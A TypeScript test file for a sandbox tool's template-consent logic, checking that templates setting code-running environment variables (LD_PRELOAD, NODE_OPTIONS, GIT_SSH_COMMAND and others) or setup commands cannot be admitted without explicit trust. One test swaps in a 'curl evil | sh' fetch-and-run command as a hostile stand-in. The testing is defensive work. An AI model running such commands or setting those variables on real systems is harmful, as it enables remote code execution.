import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { readTemplate } from '../../../src/engine/setup/read-template.ts';
import { admitTemplate, asksFor, needsConsent } from '../../../src/engine/setup/template-consent.ts';
import { openDatabase, type Database } from '../../../src/state/database.ts';
import { makeTempDirectory } from '../../support/git-repo.ts';

let db: Database;
let tree: string;
let remove: () => void;
beforeEach(() => {
  ({ path: tree, remove } = makeTempDirectory());
  db = openDatabase(':memory:');
});
afterEach(() => {
  db.close();
  remove();
});

const write = (text: string): void => writeFileSync(join(tree, 'banger.toml'), text);
const current = async () => (await readTemplate(tree, { hasImage: false }))!.template;
const admit = async (trust: boolean, sha256?: string) =>
  admitTemplate(db, tree, { choice: { sha256: sha256 ?? (await current()).sha256, trust }, hasImage: false });

test('what only shapes the VM takes no consent: image, size, variables, ports on the loopback', async () => {
  write('image = "node"\ncpus = 2\nports = [3000, "8080:80"]\n[env]\nA = "1"\n');
  expect((await admit(false)).template.image).toBe('node');
});

test.each([
  'MISE_ENV',
  'LD_PRELOAD',
  'BASH_ENV',
  'ENV',
  'PATH',
  'NODE_OPTIONS',
  'PYTHONSTARTUP',
  'GIT_SSH_COMMAND',
  'npm_config_registry',
  'https_proxy',
])('the variable %s, by which programs run code, takes consent', async (name) => {
  write(`[env]\nMODE = "dev"\n${name} = "x"\n`);
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
  expect(asksFor(await current()).variables).toEqual([`${name}=x`]);
  await admit(true);
  await admit(false);
});

test.each(['setup = ["make"]', 'ports = ["0.0.0.0:80:80"]', 'ports = ["127.0.0.2::80"]'])(
  '%s takes consent, once',
  async (text) => {
    write(`${text}\n`);
    await expect(admit(false)).rejects.toMatchObject({
      code: 'invalid_argument',
      hint: expect.stringContaining('--trust') as string,
    });
    await admit(true);
    await admit(false);
  },
);

test('another byte asks again, what was agreed to before does not, and another tree is another tree', async () => {
  write('setup = ["make"]\n');
  const first = await current();
  await admit(true);
  write('setup = ["make"] # harmless\n');
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
  await admit(true);
  write('setup = ["make"]\n');
  await admit(false);
  expect(needsConsent(db, `${tree}-other`, first)).toBe(true);
  expect(needsConsent(db, tree, { ...first, file: '.devcontainer.json' })).toBe(true);
});

test('consent to the file that was shown is none to the one that is there now, and is not kept', async () => {
  write('setup = ["make"]\n');
  const { sha256 } = await current();
  write('setup = ["curl evil | sh"]\n');
  await expect(admit(true, sha256)).rejects.toMatchObject({ code: 'busy' });
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
  write('setup = ["make"]\n');
  await expect(admit(false)).rejects.toThrow('Nobody has agreed');
});
